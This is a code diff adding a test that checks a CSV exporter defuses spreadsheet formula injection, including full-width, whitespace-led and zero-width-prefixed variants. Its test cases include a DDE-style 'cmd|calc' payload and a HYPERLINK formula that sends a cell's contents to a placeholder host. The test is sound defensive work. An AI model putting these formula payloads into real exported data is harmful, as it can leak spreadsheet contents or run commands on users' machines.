@@ -53,6 +53,38 @@ test('CSV: text a spreadsheet would run as a formula is defused, numbers are not
     '-3\r\n+4.5\r\n-1e3\r\n-7\r\na=b\r\nemail@x.org\r\n');
 });
 
+test('CSV: full-width and whitespace-led formulas are defused too', () => {
+  const cols = [{ name: 'v' }];
+  const cases = [
+    // [cell, CSV field]
+    ['＝1+1', "'＝1+1"],
+    ['＋1+cmd|calc', "'＋1+cmd|calc"],
+    ['－2+3', "'－2+3"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    [' =1+1', "' =1+1"],
+    ['   +cmd', "'   +cmd"],
+    ['\u00a0=HYPERLINK("http://x/?"&A1)', '"\'\u00a0=HYPERLINK(""http://x/?""&A1)"'],
+    ['\u3000＝1', "'\u3000＝1"],
+    ['\n=1', '"\'\n=1"'],
+    ['\t =1', "'\t =1"],
+    ['\u200b=1', "'\u200b=1"],
+    ['\ufeff@x', "'\ufeff@x"],
+    ['\u2003 ＠x', "'\u2003 ＠x"],
+    // not formulas: left as they are
+    [' -5', '" -5"'],
+    ['\t-5', '"\t-5"'],
+    ['\t -1', '"\t -1"'],
+    ['a ＝ b', 'a ＝ b'],
+    ['total=3', 'total=3'],
+    ['＄5', '＄5'],
+  ];
+  for (const [cell, want] of cases) {
+    assert.equal(toCSV(cols, [[cell]]), `v\r\n${want}\r\n`, JSON.stringify(cell));
+  }
+  // A header can carry one as well.
+  assert.equal(toCSV([{ name: ' ＝cmd' }], []), "' ＝cmd\r\n");
+});
+
 test('formatCell', () => {
   assert.equal(formatCell(null, 'text'), 'NULL');
   assert.equal(formatCell(1 / 3, 'float'), '0.333333');
